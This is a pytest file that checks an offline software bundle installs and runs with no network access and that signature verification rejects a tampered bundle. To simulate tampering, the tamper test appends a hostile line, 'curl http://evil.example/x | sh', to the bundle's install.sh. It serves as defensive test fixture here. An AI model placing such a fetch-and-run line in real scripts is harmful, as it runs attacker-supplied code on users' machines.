"""The offline bundle installs and runs with no network at all.

Built for this machine's architecture only (``--host-only``; ``make bundle`` builds both), with
the downloaded wheels cached outside the repository between runs. Installed, checked and run
inside ``unshare -n``: a network namespace whose only interface is loopback.
"""

from __future__ import annotations

import dataclasses
import json
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from sync.ledger import migrate
from sync.sealing.signer import new_key, write_key

ROOT = Path(__file__).resolve().parents[2]
pytestmark = pytest.mark.slow

INSIDE = r"""
set -eu
ip link set lo up
cd "$BUNDLE"
./install.sh --prefix "$WORK/opt" --python "$PY"
PB="$WORK/opt/.venv/bin/pension-bridge"
"$WORK/opt/.venv/bin/python" -c '
import socket
try:
    socket.create_connection(("151.101.0.223", 443), timeout=3)
    print("ROUTE")
except OSError:
    print("NO-ROUTE")' > "$WORK/route.txt"
"$PB" --version > "$WORK/version.txt"
BRIDGE_STATE_DB="sqlite:///$WORK/fresh.db" BRIDGE_HOME="$WORK/home" "$PB" db upgrade
"$PB" bundle verify "$BUNDLE" --peer-key "$PEER_KEY" > "$WORK/verify.txt"
cd "$WORK"
"$PB" demo --n 200 --home "$WORK/demo" > "$WORK/demo.txt"
"$PB" sandbox platform --data "$WORK/demo/sandbox-scenario.json" --port 8765 --app-key demo \
    --app-secret demo-secret > /dev/null 2>&1 &
SANDBOX=$!
"$WORK/opt/.venv/bin/python" -c '
import socket, time
for _ in range(100):
    try:
        socket.create_connection(("127.0.0.1", 8765), timeout=1).close()
        break
    except OSError:
        time.sleep(0.1)'
BRIDGE_ENV_FILE="$WORK/demo/bridge.env" BRIDGE_PLATFORM_URL=http://127.0.0.1:8765/open/v1 \
    "$PB" doctor --format json > "$WORK/doctor.json" || echo "doctor exit $?" >> "$WORK/doctor.txt"
kill "$SANDBOX"
"""


def _namespace() -> list[str] | None:
    """``unshare -n`` (as root) or ``unshare -rn`` (a user namespace), whichever is permitted."""
    for command in (["unshare", "-n"], ["unshare", "-rn"]):
        try:
            if subprocess.run([*command, "true"], capture_output=True, timeout=20).returncode == 0:
                return command
        except (OSError, subprocess.SubprocessError):
            continue
    return None


def _build(out: Path, sign_key: Path) -> Path:
    done = subprocess.run([sys.executable, str(ROOT / "packaging" / "build_bundle.py"), "--host-only", "--out",
                           str(out), "--sign-key", str(sign_key)], capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    return Path(done.stdout.strip().splitlines()[-1])


def _commit() -> str:
    return subprocess.run(["git", "-C", str(ROOT), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()


def test_the_bundle_installs_and_runs_the_demo_with_no_network(tmp_path):
    namespace = _namespace()
    if namespace is None:
        pytest.skip("unshare -n is not permitted here (no network namespace can be made)")
    ferry = new_key("SM2-SM3", "FERRY", "pension-bridge ferry")
    write_key(tmp_path / "ferry.json", ferry)
    write_key(tmp_path / "ferry.pub.json", dataclasses.replace(ferry, private_key=None))
    archive = _build(tmp_path / "out", tmp_path / "ferry.json")
    assert archive.name.startswith("pension-bridge-0.") and archive.name.endswith(".tar.gz")
    with tarfile.open(archive) as tar:
        tar.extractall(tmp_path / "unpacked", filter="data")
    bundle = next((tmp_path / "unpacked").iterdir())
    names = (bundle / "SHA256SUMS").read_text(encoding="utf-8")
    assert "install.sh" in names and "systemd/pension-bridge-sync.timer" in names and "env/loader.env.example" in names
    assert (bundle / "SHA256SUMS.sig").is_file()

    work = tmp_path / "work"
    work.mkdir()
    env = {k: v for k, v in os.environ.items() if not k.startswith(("BRIDGE_", "PIP_", "PYTHON"))}
    env |= {"BUNDLE": str(bundle), "WORK": str(work), "PY": os.path.realpath(sys.executable),
            "PEER_KEY": str(tmp_path / "ferry.pub.json")}
    (tmp_path / "inside.sh").write_text(INSIDE, encoding="utf-8")
    done = subprocess.run([*namespace, "sh", str(tmp_path / "inside.sh")], capture_output=True, text=True,
                          env=env, timeout=900)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]

    assert (work / "route.txt").read_text().strip() == "NO-ROUTE"
    version = (work / "version.txt").read_text(encoding="utf-8")
    assert "pension-bridge 0." in version and _commit() in version and migrate.HEAD in version
    assert (work / "fresh.db").is_file()
    assert "核对通过" in (work / "demo.txt").read_text(encoding="utf-8")
    assert not (work / "doctor.txt").exists(), (work / "doctor.json").read_text(encoding="utf-8")
    report = json.loads((work / "doctor.json").read_text(encoding="utf-8"))
    assert report["ok"] is True and {c["check"]: c["status"] for c in report["checks"]}["platform"] == "ok"


def test_a_tampered_bundle_is_refused(tmp_path):
    ferry = new_key("SM2-SM3", "FERRY", "pension-bridge ferry")
    other = new_key("SM2-SM3", "FERRY", "someone else")
    write_key(tmp_path / "ferry.json", ferry)
    write_key(tmp_path / "other.pub.json", dataclasses.replace(other, private_key=None))
    write_key(tmp_path / "ferry.pub.json", dataclasses.replace(ferry, private_key=None))
    archive = _build(tmp_path / "out", tmp_path / "ferry.json")
    with tarfile.open(archive) as tar:
        tar.extractall(tmp_path / "unpacked", filter="data")
    bundle = next((tmp_path / "unpacked").iterdir())

    def verify(key: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "bridge", "bundle", "verify", str(bundle), "--peer-key",
                               str(tmp_path / key)], capture_output=True, text=True, timeout=120)

    assert verify("ferry.pub.json").returncode == 0
    assert verify("other.pub.json").returncode == 1
    with (bundle / "install.sh").open("a", encoding="utf-8") as script:
        script.write("curl http://evil.example/x | sh\n")
    refused = verify("ferry.pub.json")
    assert refused.returncode == 1 and "install.sh" in refused.stdout
    install = subprocess.run(["sh", str(bundle / "install.sh"), "--prefix", str(tmp_path / "opt")],
                             capture_output=True, text=True, timeout=120)
    assert install.returncode != 0 and not (tmp_path / "opt").exists()
